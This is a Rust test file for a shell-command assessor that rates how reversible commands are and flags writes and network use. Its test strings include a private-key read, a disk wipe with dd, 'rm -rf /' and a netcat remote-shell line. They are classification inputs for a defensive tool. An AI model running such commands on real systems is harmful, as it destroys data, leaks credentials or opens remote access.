//! Whether what a text does can be undone.

use crate::assess::{Flags, Options, assess};
use crate::effect::Reversibility;

fn undone(text: &str) -> Reversibility {
    assess(text, &Options::default()).reversibility
}

#[test]
fn a_text_is_as_bad_as_the_worst_it_does() {
    for (text, expected) in [
        ("ls -la", Reversibility::Reversible),
        ("git log | head", Reversibility::Reversible),
        ("cat ~/.ssh/id_rsa", Reversibility::Reversible),
        ("mkdir x && git add x", Reversibility::Recoverable),
        ("git add . && git commit -m x", Reversibility::Recoverable),
        ("env mkdir x", Reversibility::Recoverable),
        ("mkdir x; ./unknown", Reversibility::Unknown),
        ("some-program --do-it", Reversibility::Unknown),
        ("echo hi > file", Reversibility::Unknown),
        ("mkdir x; rm -rf build", Reversibility::Irreversible),
        ("git push --force", Reversibility::Irreversible),
        ("./unknown; npm publish", Reversibility::Irreversible),
        ("dd if=/dev/zero of=/dev/sda", Reversibility::Irreversible),
        ("sudo bash -c 'git push'", Reversibility::Irreversible),
        ("echo 'unterminated", Reversibility::Unknown),
        ("", Reversibility::Unknown),
    ] {
        assert_eq!(undone(text), expected, "{text}");
    }
}

#[test]
fn flags_come_from_the_rules() {
    let flags = |text: &str| assess(text, &Options::default()).flags;
    for text in ["rm x", "mkdir x", "git commit -m x", "echo a > b", "rm -rf /", "npm ci"] {
        assert!(flags(text).writes, "{text}");
    }
    for text in ["curl https://x", "git push", "npm ci", "nc -e /bin/sh x 1", "npm publish", "wget https://x"] {
        assert!(flags(text).network, "{text}");
    }
    for text in ["ls", "git status", "cat a | grep b"] {
        assert_eq!(flags(text), Flags::default(), "{text}");
    }
}
